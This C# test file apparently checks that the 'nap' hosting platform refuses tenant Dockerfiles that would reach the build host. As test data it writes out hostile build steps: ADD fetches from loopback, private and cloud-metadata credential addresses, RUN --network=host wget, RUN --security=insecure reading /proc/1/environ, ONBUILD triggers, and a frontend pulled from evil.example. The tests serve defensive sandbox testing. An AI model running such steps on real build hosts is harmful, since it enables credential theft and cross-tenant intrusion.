namespace Nap.Host.Tests;

/// <summary>
/// Issue 21: a second key pushes a Dockerfile whose build would reach the host (ADD URLs, a frontend image, RUN's
/// network and security modes). Checked in every refused case: the push is rejected with the line and the reason,
/// nothing was built, nothing of the host-local page appears in the output and its log shows no request, the first
/// tenant's app still serves.
/// </summary>
[Collection(NapHostCollection.Name)]
[Trait(Debian13Pass.Trait, Debian13Pass.Included)]
public sealed class HostileBuildSpecs(NapHost host)
{
    const string App = "reach-second";
    const string Head = "FROM local/busybox:latest\nCOPY www /www\n";
    const string Tail = "EXPOSE 8080\nCMD [\"/bin/httpd\", \"-f\", \"-p\", \"8080\", \"-h\", \"/www\"]\n";

    async Task<ExecResult> PushAsync(BuildReachHost reach, string app, string dockerfile)
    {
        using var tree = await GitWorkTree.CreateAsync(host, "hello");
        await File.WriteAllTextAsync(tree.File("Dockerfile"), dockerfile);
        await tree.CommitAsync("the second tenant's Dockerfile");
        return await tree.PushAsync(app, reach.Second);
    }

    async Task RefusedAsync(string dockerfile, string reason)
    {
        var reach = await BuildReachHost.OfAsync(host);
        var requests = await reach.SecretRequestsAsync();

        var push = await PushAsync(reach, App, dockerfile);

        Assert.True(push.ExitCode != 0, push.ToString());
        Assert.Contains(" !     " + reason, push.Stderr);
        Assert.Contains("[remote rejected] master -> master (pre-receive hook declined)", push.Stderr);
        Assert.DoesNotContain("-----> Building", push.Output);
        Assert.DoesNotContain(BuildReachHost.Secret, push.Output);
        Assert.DoesNotContain("Hello from nap", push.Output);
        Assert.Equal(requests, await reach.SecretRequestsAsync());
        await HostileHost.AssertStillServesAsync(reach.First.Url);
    }

    static string Add(string url) => $"{Head}ADD {url} /loot\nRUN cat /loot\n{Tail}";

    [Theory]
    [InlineData("http://127.0.0.1:8099/", "127.0.0.1 is a loopback address")]
    [InlineData("http://secret.nap.test:8099/", "secret.nap.test resolves to 127.0.0.1, a loopback address")]
    [InlineData("http://localhost:8099/", "localhost resolves to 127.0.0.1, a loopback address")]
    [InlineData("http://[::1]:8099/", "::1 is a loopback address")]
    [InlineData("http://[::ffff:127.0.0.1]:8099/", "::ffff:127.0.0.1 is a loopback address")]
    [InlineData("http://0.0.0.0:8099/", "0.0.0.0 is \"this network\", which reaches the host itself")]
    [InlineData("http://169.254.169.254/latest/meta-data/iam/", "169.254.169.254 is link-local (where cloud metadata services hand out credentials)")]
    [InlineData("http://[fe80::1]/", "fe80::1 is link-local")]
    [InlineData("http://10.0.0.1/", "10.0.0.1 is a private address")]
    [InlineData("http://192.168.1.1/", "192.168.1.1 is a private address")]
    [InlineData("http://100.100.100.200/latest/meta-data/", "100.100.100.200 is shared address space (carrier and cloud internal networks)")]
    [InlineData("http://[fd00:ec2::254]/latest/meta-data/", "fd00:ec2::254 is a private (unique local) address")]
    public async Task An_add_url_that_leads_off_the_public_internet_is_refused_with_its_line(string url, string why) =>
        await RefusedAsync(Add(url), $"Dockerfile:3: ADD: {url} is refused: {why}; nap fetches ADD URLs from the public internet only");

    [Fact]
    public async Task An_add_of_the_first_tenants_release_port_its_container_or_the_hosts_address_is_refused()
    {
        var reach = await BuildReachHost.OfAsync(host);
        var (bridge, port) = await reach.FirstReleaseAsync();
        var publicPort = new Uri(reach.First.Url).Port;

        await RefusedAsync(Add($"http://127.0.0.1:{port}/"), $"Dockerfile:3: ADD: http://127.0.0.1:{port}/ is refused: 127.0.0.1 is a loopback address");
        // The first tenant's container is on its app's own network, whose bridge the driver names br-ID.
        var network = (await host.Exec("docker", "network", "inspect", "-f", "{{.Id}}", "nap-reach-first")).EnsureSuccess("the app's network").Stdout.Trim();
        await RefusedAsync(Add($"http://{bridge}:8080/"), $"Dockerfile:3: ADD: http://{bridge}:8080/ is refused: {bridge} is on the docker bridge br-{network[..12]} of this host");
        await RefusedAsync(Add($"http://{host.Ip}:{publicPort}/"), $"Dockerfile:3: ADD: http://{host.Ip}:{publicPort}/ is refused: {host.Ip} is an address of this host");
    }

    [Theory]
    [InlineData("/to-local", "it redirects to http://127.0.0.1:8099/, where 127.0.0.1 is a loopback address")]
    [InlineData("/to-name", "it redirects to http://secret.nap.test:8099/, where secret.nap.test resolves to 127.0.0.1, a loopback address")]
    public async Task A_redirect_from_an_allowed_server_to_the_host_is_refused_at_that_hop(string path, string why)
    {
        var reach = await BuildReachHost.OfAsync(host);
        var url = reach.Artifacts.Url(path);

        await RefusedAsync(Add(url), $"Dockerfile:3: ADD: {url} is refused: {why}");
    }

    [Theory]
    [InlineData(Head + "ADD git@127.0.0.1:repo.git /src\n" + Tail, "Dockerfile:3: ADD: git@127.0.0.1:repo.git is a git repository")]
    [InlineData(Head + "ADD https://127.0.0.1:8099/repo.git#main /src\n" + Tail, "Dockerfile:3: ADD: https://127.0.0.1:8099/repo.git#main is a git repository")]
    [InlineData(Head + "ONBUILD ADD http://127.0.0.1:8099/ /loot\n" + Tail, "Dockerfile:3: ONBUILD: ADD http://127.0.0.1:8099/ could have the engine of whoever builds FROM this image fetch a URL")]
    [InlineData(Head + "ADD ${LOOT} /loot\n" + Tail, "Dockerfile:3: ADD: the source uses $LOOT, which nothing in this Dockerfile defines")]
    [InlineData(Head + "RUN --network=host wget -qO- http://127.0.0.1:8099/\n" + Tail, "Dockerfile:3: RUN: --network=host would give this step the host's network")]
    [InlineData(Head + "RUN --security=insecure cat /proc/1/environ\n" + Tail, "Dockerfile:3: RUN: --security=insecure would run this step with the host's privileges")]
    [InlineData("# syntax=docker/dockerfile:1\n" + Head + Tail, "Dockerfile:1: syntax=docker/dockerfile:1 would have the engine pull that image and run it as this build's frontend")]
    [InlineData("#!/usr/bin/env docker-build\n# syntax=evil.example/frontend\n" + Head + Tail, "Dockerfile:2: syntax=evil.example/frontend would have the engine pull that image")]
    [InlineData("# check=skip=all\n# foo=bar\n# syntax=evil.example/frontend\n" + Head + Tail, "Dockerfile:3: syntax=evil.example/frontend would have the engine pull that image")]
    public async Task A_dockerfile_that_would_reach_past_the_build_sandbox_is_refused_with_its_line(string dockerfile, string reason) =>
        await RefusedAsync(dockerfile, reason);

    [Fact]
    public async Task A_syntax_line_says_how_the_admin_allows_it() =>
        await RefusedAsync("# syntax=docker/dockerfile:1.7\n" + Head + Tail,
            "Dockerfile:1: syntax=docker/dockerfile:1.7 would have the engine pull that image and run it as this build's frontend; nap builds with the engine's own: remove the line, or have the host's admin add \"docker/dockerfile:1.7\" to buildFrontends in /etc/nap/napd.json");

    [Fact]
    public async Task A_base_image_whose_onbuild_trigger_adds_a_url_is_refused_at_its_from_line()
    {
        // Made by root outside nap, as an image pulled from a registry would come.
        (await host.Exec("sh", "-c", """
            set -e
            mkdir -p /tmp/onbuild-url && cd /tmp/onbuild-url
            printf 'FROM local/busybox:latest\nONBUILD ADD http://127.0.0.1:8099/ /loot\nONBUILD RUN cat /loot\n' > Dockerfile
            DOCKER_BUILDKIT=1 docker build -q -t local/onbuild-url:latest .
            """)).EnsureSuccess("building an image with an ONBUILD ADD of a URL");

        await RefusedAsync("FROM local/onbuild-url:latest\nCOPY www /www\n" + Tail,
            "Dockerfile:1: FROM local/onbuild-url:latest: the image's ONBUILD trigger is refused: ADD http://127.0.0.1:8099/ could have the engine");
    }

    [Fact]
    public async Task An_add_url_of_a_private_host_napd_json_names_is_fetched_by_napd_and_copied_as_add_would()
    {
        var reach = await BuildReachHost.OfAsync(host);
        var url = reach.Artifacts.Url("/app.txt");

        var push = await PushAsync(reach, "reach-artifact", $"{Head}ADD {url} /www/\nRUN ls -ln --full-time /www/app.txt\n{Tail}");

        Assert.True(push.ExitCode == 0, push.ToString());
        // git shows the remote's lines on stderr.
        Assert.Contains($"-----> Fetching the Dockerfile's ADD URLs (1)", push.Stderr);
        Assert.Contains($"{url}: {BuildReachHost.Artifact.Length + 1} bytes", push.Stderr);
        Assert.Contains("COPY --from=nap-add/reach-artifact:1 /3.1/app.txt /www/", push.Stderr);
        // ADD's own fetch makes the file mode 600, owned by root, with the server's Last-Modified time.
        Assert.Matches(@"-rw------- +1 0 +0 +\d+ 2020-01-02 03:04:05 \+0000 /www/app\.txt", push.Stderr);
        var address = System.Text.RegularExpressions.Regex.Match(push.Stderr, @"deployed: (http://\S+)").Groups[1].Value;
        Assert.Equal(BuildReachHost.Artifact + "\n", await HostileHost.Http.GetStringAsync(address + "/app.txt"));
        Assert.Equal("", (await host.Exec("sh", "-c", "docker images -q nap-add/reach-artifact")).Stdout.Trim());
    }

    [Fact]
    public async Task An_add_url_of_the_public_internet_passes_the_check_and_is_fetched_where_the_network_allows()
    {
        var reach = await BuildReachHost.OfAsync(host);
        // example.com's old address: public, so the check lets it through. The testbed has no internet: something on its
        // path answers (or no route does), which is the network's answer, not nap's refusal.
        var push = await PushAsync(reach, "reach-public", $"{Head}ADD http://93.184.215.14/nap/app.txt /www/\n{Tail}");

        Assert.Contains("-----> Fetching the Dockerfile's ADD URLs (1)", push.Stderr);
        Assert.DoesNotContain("is refused", push.Output);
        if (push.ExitCode != 0)
            Assert.Matches(@" !     Dockerfile:3: ADD: http://93\.184\.215\.14/nap/app\.txt (answered \d{3} |could not be fetched: )", push.Stderr);
        else
            Assert.Contains("-----> Building reach-public", push.Stderr);
    }

    /// <summary>
    /// Defence in depth: the build unit's own docker build (its environment and command line, napd not involved) on a
    /// Dockerfile napd would refuse. The unit asks for no entitlement (no --allow, no --network), so the engine refuses
    /// RUN --network=host and --security=insecure on both distributions; docker 26's buildx hands the engine the
    /// unit's source policy, which refuses any URL. Docker 20.10 has no source policy and fetches it: on Debian 12
    /// napd's own fetch is the one barrier for ADD URLs.
    /// </summary>
    [Theory]
    [InlineData("RUN --network=host wget -qO- http://127.0.0.1:8099/", "Unknown flag: network", "network.host is not allowed")]
    [InlineData("RUN --security=insecure cat /proc/1/environ", "Unknown flag: security", "unknown flag: security")]
    [InlineData("ADD http://127.0.0.1:8099/ /loot\nRUN cat /loot", null, "source \"http://127.0.0.1:8099/\" denied by policy")]
    public async Task The_engine_refuses_what_the_build_unit_does_not_grant_without_napd(string step, string? bookworm, string trixie)
    {
        var reach = await BuildReachHost.OfAsync(host);
        var unit = $"nap-{reach.First.Name}-build.service";
        var start = (await host.Exec("systemctl", "show", "-P", "ExecStart", unit)).Stdout;
        var environment = (await host.Exec("systemctl", "show", "-P", "Environment", unit)).Stdout.Trim();
        Assert.DoesNotContain("--allow", start);
        Assert.DoesNotContain("--network", start);
        Assert.Contains("EXPERIMENTAL_BUILDKIT_SOURCE_POLICY=/var/lib/nap/apps/", environment);

        await host.ExecWithInput($"FROM local/busybox:latest\n{step}\n", "sh", "-c", "mkdir -p /tmp/engine-check && cat > /tmp/engine-check/Dockerfile");
        // The unit's own program: docker, or on docker 23 on the buildx plugin run directly.
        var program = System.Text.RegularExpressions.Regex.Match(start, @"path=(\S+)").Groups[1].Value;
        Assert.True(program is "/usr/bin/docker" or "/usr/libexec/docker/cli-plugins/docker-buildx", start);
        var build = await host.Exec("sh", "-c", $"cd /tmp/engine-check && env {environment} {program} build --progress=plain --no-cache -t local/engine-check . 2>&1");

        var expected = RepoLayout.HostDistro == "trixie" ? trixie : bookworm;
        if (expected is null)
            Assert.Contains(BuildReachHost.Secret, build.Stdout);
        else
        {
            Assert.True(build.ExitCode != 0, build.ToString());
            Assert.Contains(expected, build.Stdout);
            Assert.DoesNotContain(BuildReachHost.Secret, build.Stdout);
        }
    }
}
